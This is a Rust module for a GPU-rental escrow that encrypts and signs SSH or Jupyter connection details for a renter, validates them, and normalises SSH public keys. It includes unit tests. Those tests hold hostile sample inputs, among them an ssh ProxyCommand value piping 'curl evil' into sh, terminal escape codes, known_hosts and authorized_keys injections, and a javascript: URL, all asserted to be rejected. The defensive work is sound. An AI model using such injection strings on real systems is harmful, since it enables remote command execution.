//! Sealed access: how a provider hands the renter the connection details of the machine so
//! that only the renter can read them and the renter can tell they came from the provider.
//!
//! - The renter's recipient key is an X25519 key derived with HKDF-SHA256 from the wallet's
//!   ed25519 signature of a fixed, domain-separated message ([`KEY_MESSAGE`],
//!   [`AccessKey::from_wallet`]). Ed25519 signatures are deterministic, so a CLI holding the
//!   keypair file and a browser wallet asked to `signMessage` derive the same key, and the
//!   renter needs no new secret; the signing key is never reused as an encryption key. Its
//!   public half is published in the rental's access account when the rental is opened (the
//!   renter signs that transaction, so nobody can substitute another key). Rentals opened
//!   before this derivation (v2) used one from the wallet's seed (v1), which only a keypair
//!   file can make: [`AccessKey::for_recipient`] tries both.
//! - The provider signs `label ‖ rental ‖ recipient ‖ details` with its wallet key and seals
//!   `signature ‖ details` to the recipient with a libsodium-compatible sealed box
//!   (`crypto_box_seal`: ephemeral X25519 + XSalsa20-Poly1305, from the RustCrypto
//!   `crypto_box` crate). Anyone holding every transaction sees only ciphertext; a tampered
//!   blob fails authentication; a blob copied from another rental or sealed by anyone but the
//!   rental's provider fails the signature check.
use crypto_box::aead::OsRng;
use crypto_box::{PublicKey, SecretKey};
use serde::{Deserialize, Serialize};
use solana_keypair::Keypair;
use solana_signature::Signature;
use solana_signer::Signer;

use anchor_lang::prelude::Pubkey;
pub use gpu_escrow::state::{SEALED_MAX, SSH_KEY_MAX};

/// Version byte at the start of every sealed blob.
const VERSION: u8 = 1;
const SIGN_LABEL: &[u8] = b"gpu-escrow/access/v1";
const KEY_LABEL_V1: &[u8] = b"gpu-escrow/access-key/v1";
const KEY_LABEL_V2: &[u8] = b"gpu-escrow/access-key/v2";

/// What a wallet signs to derive its access key (derivation v2). A browser wallet shows it
/// before signing, so it says in plain words what the signature allows.
pub const KEY_MESSAGE: &str = "gpu-escrow access key (version 2)\n\n\
Signing this message derives the key that opens the connection details GPU providers seal \
to you on gpu-escrow. It authorises no transaction and moves no funds. Anyone who gets this \
signature can read the connection details of your rentals, so sign it only in a gpu-escrow \
client you trust.";
/// Version byte + sealed box overhead (ephemeral key and tag) + the provider's signature.
pub const OVERHEAD: usize = 1 + crypto_box::SEALBYTES + 64;

/// How to reach the machine: what the provider's provision command prints as JSON.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct ConnectionDetails {
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub host: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub port: Option<u16>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub user: Option<String>,
    /// The server's host key as in known_hosts, e.g. `ssh-ed25519 AAAA…`.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub host_key: Option<String>,
    /// The host key's fingerprint, e.g. `SHA256:…`.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub host_key_fingerprint: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub password: Option<String>,
    /// A web endpoint, e.g. a Jupyter URL with its token.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub url: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub note: Option<String>,
}

impl ConnectionDetails {
    /// The details are data the renter's tools will use, never commands: checked where they
    /// are sealed and again where they are opened. At least a host (for SSH) or a URL; the
    /// host a hostname or IP address, the user a POSIX user name, the port 1-65535, the host
    /// key one OpenSSH public key line, the URL http(s) with a host; and no control
    /// character anywhere (a newline or an escape sequence would rewrite the renter's
    /// terminal or known_hosts file; a host or user starting with `-` would be an ssh option).
    pub fn validate(&self) -> Result<(), AccessError> {
        let bad = |what: &str, why: &str| Err(AccessError::Malformed(format!("{what}: {why}")));
        if self.host.as_deref().is_none_or(str::is_empty) && self.url.as_deref().is_none_or(str::is_empty) {
            return bad("connection details", "need a `host` or a `url`");
        }
        let fields = [
            ("host", &self.host),
            ("user", &self.user),
            ("host_key", &self.host_key),
            ("host_key_fingerprint", &self.host_key_fingerprint),
            ("password", &self.password),
            ("url", &self.url),
            ("note", &self.note),
        ];
        for (name, value) in fields {
            if value.as_deref().is_some_and(|v| v.chars().any(char::is_control)) {
                return bad(name, "contains a control character");
            }
        }
        if let Some(h) = &self.host {
            if !is_host(h) {
                return bad("host", "is not a hostname or IP address");
            }
        }
        if let Some(u) = &self.user {
            if !is_user_name(u) {
                return bad("user", "is not a user name (letters, digits, `_`, `.`, `-`; not starting with `-`)");
            }
        }
        if self.port == Some(0) {
            return bad("port", "must be 1-65535");
        }
        if let Some(k) = &self.host_key {
            check_published_ssh_key(k.as_bytes()).map_err(|e| AccessError::Malformed(format!("host_key: {e}")))?;
        }
        if let Some(f) = &self.host_key_fingerprint {
            let ok = f.split_once(':').is_some_and(|(alg, body)| {
                matches!(alg, "SHA256" | "MD5")
                    && !body.is_empty()
                    && body.chars().all(|c| c.is_ascii_alphanumeric() || "+/=:".contains(c))
            });
            if !ok {
                return bad("host_key_fingerprint", "is not `SHA256:…`");
            }
        }
        if let Some(url) = &self.url {
            let host = url.strip_prefix("https://").or_else(|| url.strip_prefix("http://"));
            let host = host.map(|rest| rest.split(['/', '?', '#']).next().unwrap_or(""));
            let host = host.map(|h| h.rsplit_once('@').map_or(h, |(_, h)| h));
            let host_only = host.map(|h| match h.strip_prefix('[') {
                Some(v6) => v6.split(']').next().unwrap_or(""),
                None => h.rsplit_once(':').map_or(h, |(h, _)| h),
            });
            if !host_only.is_some_and(is_host) || url.contains(char::is_whitespace) {
                return bad("url", "is not an http:// or https:// address with a host");
            }
        }
        Ok(())
    }

    /// The command that connects, e.g. `ssh -p 2222 renter@203.0.113.7`.
    pub fn ssh_command(&self) -> Option<String> {
        let host = self.host.as_deref().filter(|h| !h.is_empty())?;
        let target = match self.user.as_deref().filter(|u| !u.is_empty()) {
            Some(u) => format!("{u}@{host}"),
            None => host.to_string(),
        };
        Some(match self.port {
            Some(p) if p != 22 => format!("ssh -p {p} {target}"),
            _ => format!("ssh {target}"),
        })
    }

    /// The line to add to `~/.ssh/known_hosts`, when the host key was given.
    pub fn known_hosts_line(&self) -> Option<String> {
        let host = self.host.as_deref().filter(|h| !h.is_empty())?;
        let key = self.host_key.as_deref()?.trim();
        Some(match self.port {
            Some(p) if p != 22 => format!("[{host}]:{p} {key}"),
            _ => format!("{host} {key}"),
        })
    }
}

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum AccessError {
    #[error("the provider has not delivered access details yet")]
    NotDelivered,
    #[error("this wallet's access key is not the one the rental was opened with; use the renter's keypair")]
    WrongKey,
    #[error(
        "this rental was opened with an access key derived from the wallet's secret seed (version 1), which \
         only the renter's keypair file can derive, not a browser or hardware wallet; open it with the CLI and \
         that keypair"
    )]
    SeedKeyNeeded,
    #[error("the signature is not the wallet's signature of the access-key message")]
    BadKeySignature,
    #[error("the sealed access details were tampered with or are not for this key (authentication failed)")]
    Tampered,
    #[error("the access details are not signed by this rental's provider")]
    BadSignature,
    #[error("the access details were sealed for rental {0}, not this one")]
    WrongRental(String),
    #[error("sealed access details use version {0}, which this client does not know; upgrade gpu-escrow")]
    UnknownVersion(u8),
    #[error("malformed access details: {0}")]
    Malformed(String),
    #[error(
        "the sealed access details take {0} bytes; at most {SEALED_MAX} fit (shorten the note, token or host key)"
    )]
    TooLong(usize),
}

/// The renter's X25519 key for receiving access details.
pub struct AccessKey(SecretKey);

fn derive(ikm: &[u8], label: &[u8]) -> AccessKey {
    let hk = hkdf::Hkdf::<sha2::Sha256>::new(Some(b"gpu-escrow"), ikm);
    let mut okm = [0u8; 32];
    hk.expand(label, &mut okm).expect("32 bytes is a valid HKDF-SHA256 length");
    AccessKey(SecretKey::from(okm))
}

impl AccessKey {
    /// The current derivation (v2): from the wallet's signature of [`KEY_MESSAGE`], exactly
    /// what [`AccessKey::from_signature`] derives from a browser wallet's `signMessage`.
    pub fn from_wallet(wallet: &Keypair) -> Self {
        Self::derive_v2(&wallet.sign_message(KEY_MESSAGE.as_bytes()))
    }

    /// From `wallet`'s signature of [`KEY_MESSAGE`] as a wallet returned it (`signMessage`
    /// of the UTF-8 bytes). Checked against the wallet's public key, so a wrong signature
    /// fails here rather than yielding a key that opens nothing.
    pub fn from_signature(wallet: &Pubkey, signature: &[u8]) -> Result<Self, AccessError> {
        let sig = Signature::try_from(signature).map_err(|_| AccessError::BadKeySignature)?;
        if !sig.verify(wallet.as_ref(), KEY_MESSAGE.as_bytes()) {
            return Err(AccessError::BadKeySignature);
        }
        Ok(Self::derive_v2(&sig))
    }

    fn derive_v2(sig: &Signature) -> Self {
        derive(sig.as_ref(), KEY_LABEL_V2)
    }

    /// The first derivation (v1), from the wallet's ed25519 seed: only a keypair file can
    /// make it. Kept so rentals opened with it can still be read.
    pub fn from_wallet_seed_v1(wallet: &Keypair) -> Self {
        derive(&wallet.to_bytes()[..32], KEY_LABEL_V1)
    }

    /// The key, among those `wallet` can derive, whose public half is `recipient` (what the
    /// rental published): v2 first, then v1 for rentals opened before v2.
    pub fn for_recipient(wallet: &Keypair, recipient: &[u8; 32]) -> Result<Self, AccessError> {
        [Self::from_wallet(wallet), Self::from_wallet_seed_v1(wallet)]
            .into_iter()
            .find(|k| k.recipient() == *recipient)
            .ok_or(AccessError::WrongKey)
    }

    /// As [`AccessKey::for_recipient`] for a wallet that only signs messages (a browser or
    /// hardware wallet): it can reach v2 only, and says so for a v1 rental.
    pub fn for_recipient_from_signature(
        wallet: &Pubkey,
        signature: &[u8],
        recipient: &[u8; 32],
    ) -> Result<Self, AccessError> {
        let key = Self::from_signature(wallet, signature)?;
        if key.recipient() == *recipient {
            Ok(key)
        } else {
            Err(AccessError::SeedKeyNeeded)
        }
    }

    /// The public half, published in the rental's access account.
    pub fn recipient(&self) -> [u8; 32] {
        *self.0.public_key().as_bytes()
    }
}

fn signed_message(rental: &Pubkey, recipient: &[u8; 32], details_json: &[u8]) -> Vec<u8> {
    let mut msg = Vec::with_capacity(SIGN_LABEL.len() + 64 + details_json.len());
    msg.extend_from_slice(SIGN_LABEL);
    msg.extend_from_slice(rental.as_ref());
    msg.extend_from_slice(recipient);
    msg.extend_from_slice(details_json);
    msg
}

/// Provider side: seals `details` for `rental` to the renter's `recipient` key, signed by
/// the provider's wallet. The result goes into `activate_rental`.
pub fn seal(
    details: &ConnectionDetails,
    rental: &Pubkey,
    recipient: &[u8; 32],
    provider: &Keypair,
) -> Result<Vec<u8>, AccessError> {
    details.validate()?;
    let json = serde_json::to_vec(details).map_err(|e| AccessError::Malformed(e.to_string()))?;
    seal_json(&json, rental, recipient, provider)
}

/// Seals already-serialised details (the checks are `seal`'s; tests use this to make the
/// blob a careless or hostile provider could make, and check that `open` refuses it).
fn seal_json(json: &[u8], rental: &Pubkey, recipient: &[u8; 32], provider: &Keypair) -> Result<Vec<u8>, AccessError> {
    let len = OVERHEAD + json.len();
    if len > SEALED_MAX {
        return Err(AccessError::TooLong(len));
    }
    let signature = provider.sign_message(&signed_message(rental, recipient, json));
    let mut plaintext = Vec::with_capacity(64 + json.len());
    plaintext.extend_from_slice(signature.as_ref());
    plaintext.extend_from_slice(json);
    let sealed = PublicKey::from(*recipient).seal(&mut OsRng, &plaintext).map_err(|_| AccessError::Tampered)?;
    let mut blob = Vec::with_capacity(len);
    blob.push(VERSION);
    blob.extend_from_slice(&sealed);
    Ok(blob)
}

/// Renter side: opens a sealed blob with the renter's key, checks it was sealed for this
/// rental and signed by its provider, and returns the connection details.
pub fn open(
    blob: &[u8],
    rental: &Pubkey,
    recipient: &[u8; 32],
    provider: &Pubkey,
    key: &AccessKey,
) -> Result<ConnectionDetails, AccessError> {
    let (&version, sealed) = blob.split_first().ok_or(AccessError::NotDelivered)?;
    if version != VERSION {
        return Err(AccessError::UnknownVersion(version));
    }
    if key.recipient() != *recipient {
        return Err(AccessError::WrongKey);
    }
    let plaintext = key.0.unseal(sealed).map_err(|_| AccessError::Tampered)?;
    if plaintext.len() < 64 {
        return Err(AccessError::Malformed("too short".into()));
    }
    let (sig, json) = plaintext.split_at(64);
    let signature = Signature::try_from(sig).map_err(|_| AccessError::Malformed("signature".into()))?;
    if !signature.verify(provider.as_ref(), &signed_message(rental, recipient, json)) {
        return Err(AccessError::BadSignature);
    }
    let details: ConnectionDetails = serde_json::from_slice(json).map_err(|e| AccessError::Malformed(e.to_string()))?;
    details.validate()?;
    Ok(details)
}

/// A hostname (letters, digits and `-` in dot-separated labels, none starting with `-`) or
/// an IP address.
fn is_host(h: &str) -> bool {
    if h.parse::<std::net::IpAddr>().is_ok() {
        return true;
    }
    !h.is_empty()
        && h.len() <= 253
        && h.trim_end_matches('.').split('.').all(|label| {
            !label.is_empty()
                && label.len() <= 63
                && !label.starts_with('-')
                && label.chars().all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_')
        })
}

/// A POSIX portable user name (`[A-Za-z0-9._-]`, not starting with `-`), at most 32 bytes.
fn is_user_name(u: &str) -> bool {
    !u.is_empty()
        && u.len() <= 32
        && !u.starts_with('-')
        && u.chars().all(|c| c.is_ascii_alphanumeric() || "._-".contains(c))
}

/// The SSH public key types a renter may publish.
const SSH_KEY_TYPES: &[&str] = &[
    "ssh-ed25519",
    "ssh-rsa",
    "ecdsa-sha2-nistp256",
    "ecdsa-sha2-nistp384",
    "ecdsa-sha2-nistp521",
    "sk-ssh-ed25519@openssh.com",
    "sk-ecdsa-sha2-nistp256@openssh.com",
];

/// Normalises an SSH public key for publishing: the first `type base64` pair of the line,
/// without the comment (which often names a person or machine and would be public forever).
pub fn normalize_ssh_public_key(text: &str) -> Result<Vec<u8>, String> {
    let line = text.lines().map(str::trim).find(|l| !l.is_empty() && !l.starts_with('#')).ok_or("the file is empty")?;
    let mut parts = line.split_whitespace();
    let (kind, body) = (parts.next().unwrap_or(""), parts.next().unwrap_or(""));
    if !SSH_KEY_TYPES.contains(&kind) {
        return Err(format!(
            "`{kind}` is not an SSH public key type (expected e.g. ssh-ed25519); is this the .pub file?"
        ));
    }
    use base64::Engine;
    base64::engine::general_purpose::STANDARD
        .decode(body)
        .map_err(|_| "the key's base64 body does not decode".to_string())?;
    let key = format!("{kind} {body}").into_bytes();
    if key.len() > SSH_KEY_MAX {
        return Err(format!("the key is {} bytes; at most {SSH_KEY_MAX} fit: use an ed25519 key", key.len()));
    }
    Ok(key)
}

/// Checks the SSH key a rental published before a provider installs it: the renter's
/// instruction can store any bytes, so they must be exactly one normalised `type base64` pair
/// (no options such as `command=`, no second line, no comment), of a known type, whose
/// decoded body names the same type. Returns the key as text.
pub fn check_published_ssh_key(bytes: &[u8]) -> Result<String, String> {
    let text = std::str::from_utf8(bytes).map_err(|_| "the published SSH key is not UTF-8".to_string())?;
    let normalised = normalize_ssh_public_key(text)?;
    if normalised != bytes {
        return Err(
            "the published SSH key is not one normalised `type base64` line (options, comments or extra lines)".into(),
        );
    }
    let (kind, body) = text.split_once(' ').expect("normalised keys have two parts");
    use base64::Engine;
    let blob = base64::engine::general_purpose::STANDARD.decode(body).expect("checked by normalize");
    let named = blob
        .get(..4)
        .map(|n| u32::from_be_bytes(n.try_into().expect("4 bytes")) as usize)
        .and_then(|n| blob.get(4..4 + n));
    if named != Some(kind.as_bytes()) {
        return Err(format!("the published SSH key's body is not a `{kind}` key"));
    }
    Ok(text.to_string())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn provider_strings_that_would_be_commands_or_terminal_codes_are_refused_at_seal_and_open() {
        let provider = Keypair::new();
        let renter = AccessKey::from_wallet(&Keypair::new());
        let rental = Pubkey::new_unique();
        let ok = details();
        assert!(ok.validate().is_ok());
        let hostile = [
            ConnectionDetails { host: Some("-oProxyCommand=curl evil|sh".into()), ..ok.clone() },
            ConnectionDetails { host: Some("203.0.113.7 -oProxyCommand=x".into()), ..ok.clone() },
            ConnectionDetails { user: Some("-oProxyCommand=x".into()), ..ok.clone() },
            ConnectionDetails { user: Some("root\nssh-rsa AAAA".into()), ..ok.clone() },
            ConnectionDetails {
                host_key: Some(format!("{}\n[evil]:22 ssh-ed25519 AAAA", ok.host_key.clone().unwrap())),
                ..ok.clone()
            },
            ConnectionDetails { host_key: Some("not a key".into()), ..ok.clone() },
            ConnectionDetails { note: Some("fine \u{1b}]0;owned\u{7}".into()), ..ok.clone() },
            ConnectionDetails { url: Some("javascript:alert(1)".into()), ..ok.clone() },
            ConnectionDetails { url: Some("https://-x/".into()), ..ok.clone() },
            ConnectionDetails { password: Some("pw\u{1b}[2J".into()), ..ok.clone() },
            ConnectionDetails { host_key_fingerprint: Some("SHA256:abc\u{1b}[1m".into()), ..ok.clone() },
            ConnectionDetails { port: Some(0), ..ok.clone() },
        ];
        for d in hostile {
            let e = seal(&d, &rental, &renter.recipient(), &provider).unwrap_err();
            assert!(matches!(e, AccessError::Malformed(_)), "{d:?} sealed: {e:?}");
            // A provider that skips the check still cannot get them past the renter's open.
            let blob = seal_json(&serde_json::to_vec(&d).unwrap(), &rental, &renter.recipient(), &provider).unwrap();
            let e = open(&blob, &rental, &renter.recipient(), &provider.pubkey(), &renter).unwrap_err();
            assert!(matches!(e, AccessError::Malformed(_)), "{d:?} opened: {e:?}");
        }
        for url in ["http://203.0.113.7:8888/lab?token=abc", "https://[2001:db8::1]:8443/", "https://gpu.example.com"] {
            assert!(ConnectionDetails { url: Some(url.into()), ..ok.clone() }.validate().is_ok(), "{url}");
        }
        assert!(ConnectionDetails { host: Some("2001:db8::7".into()), ..ok.clone() }.validate().is_ok());
    }

    #[test]
    fn published_ssh_keys_are_installed_only_when_exactly_normalised() {
        let key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl";
        assert_eq!(check_published_ssh_key(key.as_bytes()).unwrap(), key);
        for bad in [
            format!("command=\"sh\" {key}"),
            format!("{key} comment"),
            format!("{key}\n{key}"),
            format!("{key}\n"),
            "ssh-rsa AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl".to_string(),
            "ssh-ed25519 !!!".to_string(),
            String::new(),
        ] {
            assert!(check_published_ssh_key(bad.as_bytes()).is_err(), "{bad:?} was accepted");
        }
        assert!(check_published_ssh_key(&[0xff, 0xfe]).is_err());
    }

    fn details() -> ConnectionDetails {
        ConnectionDetails {
            host: Some("203.0.113.7".into()),
            port: Some(2222),
            user: Some("renter".into()),
            host_key: Some("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeHostKeyForTests".into()),
            url: Some("https://203.0.113.7:8888/?token=0123456789abcdef".into()),
            ..Default::default()
        }
    }

    #[test]
    fn only_the_renter_opens_what_the_provider_sealed() {
        let (renter, provider, stranger) = (Keypair::new(), Keypair::new(), Keypair::new());
        let rental = Pubkey::new_unique();
        let key = AccessKey::from_wallet(&renter);
        let recipient = key.recipient();
        assert_eq!(AccessKey::from_wallet(&renter).recipient(), recipient, "deterministic from the wallet");
        let blob = seal(&details(), &rental, &recipient, &provider).unwrap();
        assert!(blob.len() <= SEALED_MAX);
        let opened = open(&blob, &rental, &recipient, &provider.pubkey(), &key).unwrap();
        assert_eq!(opened, details());
        assert_eq!(opened.ssh_command().unwrap(), "ssh -p 2222 renter@203.0.113.7");
        assert!(opened.known_hosts_line().unwrap().starts_with("[203.0.113.7]:2222 ssh-ed25519 "));
        // Plain text never appears in the blob.
        assert!(!blob.windows(11).any(|w| w == b"203.0.113.7"));

        let other = AccessKey::from_wallet(&stranger);
        assert_eq!(open(&blob, &rental, &recipient, &provider.pubkey(), &other).unwrap_err(), AccessError::WrongKey);
        // A stranger who publishes its own key as the recipient still cannot open this blob.
        let err = open(&blob, &rental, &other.recipient(), &provider.pubkey(), &other).unwrap_err();
        assert_eq!(err, AccessError::Tampered);
    }

    #[test]
    fn tampered_copied_or_forged_blobs_are_refused() {
        let (renter, provider, mallory) = (Keypair::new(), Keypair::new(), Keypair::new());
        let rental = Pubkey::new_unique();
        let key = AccessKey::from_wallet(&renter);
        let r = key.recipient();
        let blob = seal(&details(), &rental, &r, &provider).unwrap();
        for i in [1, 40, blob.len() / 2, blob.len() - 1] {
            let mut bad = blob.clone();
            bad[i] ^= 1;
            assert_eq!(open(&bad, &rental, &r, &provider.pubkey(), &key).unwrap_err(), AccessError::Tampered, "{i}");
        }
        // Sealed for another rental and replayed here.
        let other_rental = Pubkey::new_unique();
        let copied = seal(&details(), &other_rental, &r, &provider).unwrap();
        assert_eq!(open(&copied, &rental, &r, &provider.pubkey(), &key).unwrap_err(), AccessError::BadSignature);
        // Sealed by someone other than the provider.
        let forged = seal(&details(), &rental, &r, &mallory).unwrap();
        assert_eq!(open(&forged, &rental, &r, &provider.pubkey(), &key).unwrap_err(), AccessError::BadSignature);
        assert_eq!(open(&[], &rental, &r, &provider.pubkey(), &key).unwrap_err(), AccessError::NotDelivered);
        assert_eq!(
            open(&[9, 1, 2], &rental, &r, &provider.pubkey(), &key).unwrap_err(),
            AccessError::UnknownVersion(9)
        );
    }

    #[test]
    fn oversized_or_empty_details_are_refused_before_sealing() {
        let provider = Keypair::new();
        let r = AccessKey::from_wallet(&Keypair::new()).recipient();
        let long = ConnectionDetails { note: Some("x".repeat(SEALED_MAX)), ..details() };
        assert!(matches!(seal(&long, &Pubkey::new_unique(), &r, &provider), Err(AccessError::TooLong(_))));
        let empty = ConnectionDetails::default();
        assert!(matches!(seal(&empty, &Pubkey::new_unique(), &r, &provider), Err(AccessError::Malformed(_))));
    }

    #[test]
    fn ssh_keys_are_published_without_their_comment() {
        let k = normalize_ssh_public_key("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE2x alice@laptop\n").unwrap();
        assert_eq!(k, b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE2x");
        assert!(normalize_ssh_public_key("-----BEGIN OPENSSH PRIVATE KEY-----").unwrap_err().contains("not an SSH"));
        assert!(normalize_ssh_public_key("ssh-rsa !!!").unwrap_err().contains("base64"));
        let huge = format!("ssh-rsa {}", "A".repeat(800));
        assert!(normalize_ssh_public_key(&huge).unwrap_err().contains("ed25519"));
    }

    #[test]
    fn a_wallet_that_only_signs_messages_derives_the_same_key_as_the_keypair() {
        let wallet = Keypair::new();
        // What a wallet-standard `signMessage` returns: the ed25519 signature of the bytes.
        let sig = wallet.sign_message(KEY_MESSAGE.as_bytes());
        let from_sig = AccessKey::from_signature(&wallet.pubkey(), sig.as_ref()).unwrap();
        assert_eq!(from_sig.recipient(), AccessKey::from_wallet(&wallet).recipient());
        let again = wallet.sign_message(KEY_MESSAGE.as_bytes());
        assert_eq!(
            AccessKey::from_signature(&wallet.pubkey(), again.as_ref()).unwrap().recipient(),
            from_sig.recipient()
        );
        // Another wallet's signature, another message, or garbage is refused, not turned into a key.
        let other = Keypair::new().sign_message(KEY_MESSAGE.as_bytes());
        let wrong_message = wallet.sign_message(b"gpu-escrow access key (version 3)");
        for bad in [other.as_ref(), wrong_message.as_ref(), &[7u8; 63][..]] {
            assert!(matches!(AccessKey::from_signature(&wallet.pubkey(), bad), Err(AccessError::BadKeySignature)));
        }
        // The two derivations are different keys.
        assert_ne!(AccessKey::from_wallet_seed_v1(&wallet).recipient(), from_sig.recipient());
        assert!(KEY_MESSAGE.contains("moves no funds"), "the message says what signing it allows");
    }

    #[test]
    fn rentals_opened_with_the_seed_key_still_open_with_the_keypair_and_a_browser_wallet_is_told_why_not() {
        let (provider, renter, rental) = (Keypair::new(), Keypair::new(), Pubkey::new_unique());
        let sig = renter.sign_message(KEY_MESSAGE.as_bytes());
        // Opened before v2: the recipient is the seed-derived key.
        let v1 = AccessKey::from_wallet_seed_v1(&renter).recipient();
        let blob = seal(&details(), &rental, &v1, &provider).unwrap();
        let key = AccessKey::for_recipient(&renter, &v1).unwrap();
        assert_eq!(open(&blob, &rental, &v1, &provider.pubkey(), &key).unwrap(), details());
        let e = AccessKey::for_recipient_from_signature(&renter.pubkey(), sig.as_ref(), &v1).err().unwrap();
        assert!(matches!(e, AccessError::SeedKeyNeeded) && e.to_string().contains("keypair file"), "{e}");
        // Opened with v2: the signature alone opens it.
        let v2 = AccessKey::from_wallet(&renter).recipient();
        let blob = seal(&details(), &rental, &v2, &provider).unwrap();
        let key = AccessKey::for_recipient_from_signature(&renter.pubkey(), sig.as_ref(), &v2).unwrap();
        assert_eq!(open(&blob, &rental, &v2, &provider.pubkey(), &key).unwrap(), details());
        assert!(matches!(AccessKey::for_recipient(&Keypair::new(), &v2), Err(AccessError::WrongKey)));
    }
}
